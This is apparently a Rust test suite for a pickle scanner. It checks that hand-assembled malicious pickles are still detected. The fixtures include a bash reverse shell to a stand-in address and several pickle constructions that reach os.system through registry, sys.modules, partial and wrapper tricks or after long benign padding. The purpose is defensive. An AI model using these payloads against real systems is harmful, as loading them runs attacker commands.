//! What is stated once hides nothing that comes later and differs.
#![allow(clippy::unwrap_used, clippy::panic, clippy::arithmetic_side_effects, reason = "tests")]

use base::{
    blob::Blob,
    budget::Meter,
    fact::{Attribute, Call, Data, Import},
    sink::{Collected, Sink},
};

fn read(text: &str) -> Collected {
    let mut collected = Collected::default();
    let mut sink = Sink::new(&mut collected, Meter::unlimited(), true, "repeats.pkl");
    let bytes = testkit::pickle::assemble(text).unwrap();
    pickle::read(&Blob::from_bytes(bytes), &mut sink).unwrap();
    collected
}

fn calls(collected: &Collected) -> impl Iterator<Item = &Call> {
    collected.facts.iter().filter_map(|fact| if let Data::Call(call) = &fact.data { Some(call) } else { None })
}

fn imports(collected: &Collected) -> impl Iterator<Item = &Import> {
    collected.facts.iter().filter_map(|fact| if let Data::Import(import) = &fact.data { Some(import) } else { None })
}

fn attributes(collected: &Collected) -> impl Iterator<Item = &Attribute> {
    collected.facts.iter().filter_map(|fact| if let Data::Attribute(write) = &fact.data { Some(write) } else { None })
}

/// The arguments of every call that is made like this, as text.
fn arguments(collected: &Collected, how: &str) -> String {
    calls(collected)
        .filter(|call| *call.how == *how)
        .flat_map(|call| &call.args)
        .map(|arg| format!("{arg}\n"))
        .collect()
}

const SHELL: &str = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";

#[test]
fn an_honest_state_hides_no_later_one() {
    let honest = "GLOBAL some_package.m Thing\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nSHORT_BINUNICODE \"a\"\nBININT1 1\nSETITEM\nBUILD\nPOP\n";
    for (value, said) in [
        (format!("SHORT_BINUNICODE \"{SHELL}\""), SHELL),
        ("GLOBAL os system".to_owned(), "os.system"),
        // Further down, and in the state of slots.
        (format!("MARK\nNONE\nSHORT_BINUNICODE \"{SHELL}\"\nLIST"), SHELL),
        ("EMPTY_LIST\nGLOBAL os system\nAPPEND\nTUPLE1".to_owned(), "os.system"),
    ] {
        let evil = format!(
            "GLOBAL some_package.m Thing\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nSHORT_BINUNICODE \"b\"\n{value}\nSETITEM\nBUILD\n"
        );
        let collected = read(&format!("PROTO 4\n{}{evil}STOP", honest.repeat(5000)));
        assert!(arguments(&collected, "build").contains(said), "{said}");
        assert_eq!(calls(&collected).filter(|call| *call.how == *"build").count(), 2);
    }
}

#[test]
fn later_items_of_one_class_are_stated() {
    let items = "GLOBAL some_package.m Table\nEMPTY_TUPLE\nNEWOBJ\nMARK\n";
    let many: String = (0..60).map(|at| format!("SHORT_BINUNICODE \"key{at}\"\nBININT1 1\n")).collect();
    let evil = format!("SHORT_BINUNICODE \"last\"\nSHORT_BINUNICODE \"{SHELL}\"\n");
    let collected = read(&format!("PROTO 4\n{items}{many}SETITEMS\nPOP\n{items}{many}{evil}SETITEMS\nSTOP"));
    assert!(arguments(&collected, "setitem").contains(SHELL));
}

#[test]
fn a_plain_class_is_built_from_text_that_is_stated() {
    let build = |text: &str| format!("GLOBAL some_package.m Thing\nSHORT_BINUNICODE \"{text}\"\nTUPLE1\nNEWOBJ\nPOP\n");
    let collected = read(&format!("PROTO 4\n{}{}NONE\nSTOP", build("name").repeat(9), build(SHELL)));
    assert!(arguments(&collected, "newobj").contains(SHELL));
}

#[test]
fn bytes_that_are_no_numbers_are_stated_each() {
    let call = |text: &str| format!("GLOBAL some_package.m f\nSHORT_BINBYTES b\"{text}\"\nTUPLE1\nREDUCE\nPOP\n");
    let many: String = (0..4200).map(|at| call(&format!("{at:08}"))).collect();
    let collected = read(&format!("PROTO 4\n{many}{}NONE\nSTOP", call(SHELL)));
    assert!(arguments(&collected, "reduce").contains(SHELL));
}

#[test]
fn a_list_that_grew_further_down_makes_another_call() {
    // f(([],)) twice, with something put into the inner list between.
    let text = format!(
        "PROTO 4\nGLOBAL some_package.m f\nMEMOIZE\nEMPTY_LIST\nMEMOIZE\nEMPTY_LIST\nMEMOIZE\nAPPEND\nTUPLE1\nMEMOIZE\nREDUCE\nPOP\n\
         BINGET 2\nSHORT_BINUNICODE \"{SHELL}\"\nAPPEND\nPOP\nBINGET 0\nBINGET 3\nREDUCE\nSTOP"
    );
    assert!(arguments(&read(&text), "reduce").contains(SHELL));
}

#[test]
fn a_name_is_stated_again_when_it_is_written_or_made_otherwise() {
    let text = "PROTO 4\nGLOBAL os system\nPOP\nGLOBAL posix system\nPOP\n\
                SHORT_BINUNICODE \"\"\nPOP\nGLOBAL builtins str\nSHORT_BINBYTES b\"os\"\nSHORT_BINUNICODE \"ascii\"\nTUPLE2\nREDUCE\n\
                SHORT_BINUNICODE \"system\"\nSTACK_GLOBAL\nSTOP";
    let collected = read(text);
    let found: Vec<(&str, &str)> = imports(&collected)
        .filter(|import| *import.name == *"system")
        .map(|import| (&*import.written, &*import.origin))
        .collect();
    assert_eq!(found, [("", "global"), ("posix.system", "global"), ("", "computed")]);
}

/// Whether `os.system` is called with a text.
fn calls_system(text: &str) -> bool {
    let collected = read(text);
    calls(&collected).any(|call| *call.module == *"os" && *call.name == *"system")
}

const OS: &str = "GLOBAL importlib import_module\nSHORT_BINUNICODE \"os\"\nTUPLE1\nREDUCE\n";
const ECHO: &str = "SHORT_BINUNICODE \"echo hi\"\nTUPLE1\nREDUCE\n";

#[test]
fn codes_put_into_the_registry_are_followed() {
    let pair = "SHORT_BINUNICODE \"os\"\nSHORT_BINUNICODE \"system\"\nTUPLE2\n";
    for entry in [
        format!("GLOBAL copyreg _inverted_registry\nBININT1 5\n{pair}SETITEM\n"),
        "GLOBAL copyreg _extension_cache\nBININT1 5\nGLOBAL os system\nSETITEM\n".to_owned(),
        format!(
            "GLOBAL builtins getattr\nGLOBAL copyreg _inverted_registry\nSHORT_BINUNICODE \"update\"\nTUPLE2\nREDUCE\n\
             EMPTY_DICT\nBININT1 5\n{pair}SETITEM\nTUPLE1\nREDUCE\n"
        ),
    ] {
        assert!(calls_system(&format!("PROTO 4\n{entry}POP\nEXT1 5\n{ECHO}STOP")), "{entry}");
    }
}

#[test]
fn tables_of_names_are_followed_however_they_are_written() {
    let method = |name: &str, args: &str| {
        format!(
            "GLOBAL builtins getattr\nGLOBAL sys modules\nSHORT_BINUNICODE \"{name}\"\nTUPLE2\nREDUCE\n{args}REDUCE\nPOP\n"
        )
    };
    let dict = format!("EMPTY_DICT\nSHORT_BINUNICODE \"json\"\n{OS}SETITEM\n");
    for write in [
        method("update", &format!("{dict}TUPLE1\n")),
        method("__ior__", &format!("{dict}TUPLE1\n")),
        method("setdefault", &format!("SHORT_BINUNICODE \"json\"\n{OS}TUPLE2\n")),
        format!("GLOBAL operator ior\nGLOBAL sys modules\n{dict}TUPLE2\nREDUCE\nPOP\n"),
        "GLOBAL _compat_pickle IMPORT_MAPPING\nSHORT_BINUNICODE \"json\"\nSHORT_BINUNICODE \"os\"\nSETITEM\nPOP\n"
            .to_owned(),
    ] {
        let text = format!("PROTO 2\n{write}GLOBAL json system\n{ECHO}STOP");
        assert!(calls_system(&text), "{write}");
    }
    let pair =
        |module: &str, name: &str| format!("SHORT_BINUNICODE \"{module}\"\nSHORT_BINUNICODE \"{name}\"\nTUPLE2\n");
    let name = format!("{}{}", pair("json", "dumps"), pair("os", "system"));
    let text =
        format!("PROTO 2\nGLOBAL _compat_pickle NAME_MAPPING\n{name}SETITEM\nPOP\nGLOBAL json dumps\n{ECHO}STOP");
    assert!(calls_system(&text));
    let module = format!(
        "PROTO 4\nGLOBAL builtins getattr\n{}SHORT_BINUNICODE \"__setattr__\"\nTUPLE2\nREDUCE\nSHORT_BINUNICODE \"dumps\"\nGLOBAL os system\nTUPLE2\nREDUCE\nPOP\nGLOBAL json dumps\n{ECHO}STOP",
        OS.replace("\"os\"", "\"json\"")
    );
    assert!(calls_system(&module));
}

#[test]
fn a_namespace_that_is_filled_later_is_the_objects_own() {
    let text = "PROTO 4\nEMPTY_DICT\nMEMOIZE\nPOP\nGLOBAL argparse Namespace\nEMPTY_TUPLE\nNEWOBJ\nNONE\nEMPTY_DICT\n\
         SHORT_BINUNICODE \"__dict__\"\nBINGET 0\nSETITEM\nTUPLE2\nBUILD\nMEMOIZE\n\
         BINGET 0\nSHORT_BINUNICODE \"append\"\nGLOBAL os system\nSETITEM\nPOP\nBINGET 1\nSHORT_BINUNICODE \"echo hi\"\nAPPEND\nSTOP";
    assert!(calls_system(text));
    let written = "PROTO 4\nGLOBAL builtins getattr\nGLOBAL argparse Namespace\nEMPTY_TUPLE\nREDUCE\nSHORT_BINUNICODE \"__dict__\"\nTUPLE2\nREDUCE\n\
                   SHORT_BINUNICODE \"append\"\nGLOBAL os system\nSETITEM\nSTOP";
    let collected = read(written);
    assert!(
        attributes(&collected)
            .any(|write| *write.name == *"append" && write.value.iter().any(|value| value.to_string() == "os.system"))
    );
}

#[test]
fn a_partial_is_what_its_state_says() {
    let text = "PROTO 4\nGLOBAL functools partial\nGLOBAL builtins len\nTUPLE1\nNEWOBJ\nGLOBAL os system\n\
                SHORT_BINUNICODE \"echo hi\"\nTUPLE1\nEMPTY_DICT\nNONE\nMARK\nPOP\nMEMOIZE\nPOP\nPOP\nPOP\nPOP\n";
    // The four parts of the state as one tuple.
    let text = format!(
        "{}MARK\nGLOBAL os system\nSHORT_BINUNICODE \"echo hi\"\nTUPLE1\nEMPTY_DICT\nNONE\nTUPLE\nBUILD\nEMPTY_TUPLE\nREDUCE\nSTOP",
        text.split("GLOBAL os system").next().unwrap()
    );
    assert!(calls_system(&text));
}

#[test]
fn an_object_that_its_methods_change_is_read_as_it_is() {
    // x = ['o']; x.append('s'); getattr(import_module(''.join(x)), 'system')('echo hi')
    let fetched = "GLOBAL builtins getattr\nBINGET 0\nSHORT_BINUNICODE \"append\"\nTUPLE2\nREDUCE\nSHORT_BINUNICODE \"s\"\nTUPLE1\nREDUCE\nPOP\n";
    let unbound = "GLOBAL builtins list.append\nBINGET 0\nSHORT_BINUNICODE \"s\"\nTUPLE2\nREDUCE\nPOP\n";
    for append in [fetched, unbound] {
        let text = format!(
            "PROTO 4\nEMPTY_LIST\nMEMOIZE\nSHORT_BINUNICODE \"o\"\nAPPEND\nPOP\n{append}\
             GLOBAL builtins getattr\nGLOBAL importlib import_module\n\
             GLOBAL builtins getattr\nSHORT_BINUNICODE \"\"\nSHORT_BINUNICODE \"join\"\nTUPLE2\nREDUCE\nBINGET 0\nTUPLE1\nREDUCE\n\
             TUPLE1\nREDUCE\nSHORT_BINUNICODE \"system\"\nTUPLE2\nREDUCE\n{ECHO}STOP"
        );
        assert!(calls_system(&text), "{append}");
    }
    let by_state = format!(
        "PROTO 4\nGLOBAL builtins getattr\nGLOBAL types SimpleNamespace\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nSHORT_BINUNICODE \"f\"\nGLOBAL os system\nSETITEM\nBUILD\n\
         SHORT_BINUNICODE \"f\"\nTUPLE2\nREDUCE\n{ECHO}STOP"
    );
    assert!(calls_system(&by_state));
}

#[test]
fn numbers_that_only_the_python_unpickler_takes_end_nothing() {
    for line in [" 1e5 ", "1_0.5", "nan", "-Infinity"] {
        assert!(calls_system(&format!("FLOAT {line}\nPOP\nGLOBAL os system\n{ECHO}STOP")), "{line}");
    }
}

#[test]
fn what_keeps_a_callable_calls_it() {
    let wrap =
        |callee: &str, rest: &str| format!("PROTO 4\nGLOBAL {callee}\nGLOBAL os system\n{rest}REDUCE\n{ECHO}STOP");
    for (callee, rest) in [
        ("functools lru_cache", "TUPLE1\n"),
        ("functools update_wrapper", "GLOBAL builtins len\nTUPLE2\n"),
        ("builtins staticmethod", "TUPLE1\n"),
        ("types GenericAlias", "GLOBAL builtins int\nTUPLE1\nTUPLE2\n"),
        ("copy copy", "TUPLE1\n"),
        ("functools partialmethod", "TUPLE1\n"),
    ] {
        assert!(calls_system(&wrap(callee, rest)), "{callee}");
    }
    let sized = format!(
        "PROTO 4\nGLOBAL functools lru_cache\nNONE\nTUPLE1\nREDUCE\nGLOBAL os system\nTUPLE1\nREDUCE\n{ECHO}STOP"
    );
    assert!(calls_system(&sized));
    let newobj_ex = "PROTO 4\nGLOBAL copyreg __newobj_ex__\nGLOBAL functools partial\nGLOBAL os system\nSHORT_BINUNICODE \"echo hi\"\nTUPLE2\nEMPTY_DICT\nTUPLE3\nREDUCE\nEMPTY_TUPLE\nREDUCE\nSTOP";
    assert!(calls_system(newobj_ex));
    let until = "PROTO 4\nGLOBAL builtins list\nGLOBAL builtins iter\nGLOBAL functools partial\nGLOBAL os system\nSHORT_BINUNICODE \"echo hi\"\nTUPLE2\nREDUCE\nBININT1 0\nTUPLE2\nREDUCE\nTUPLE1\nREDUCE\nSTOP";
    assert!(calls_system(until));
}
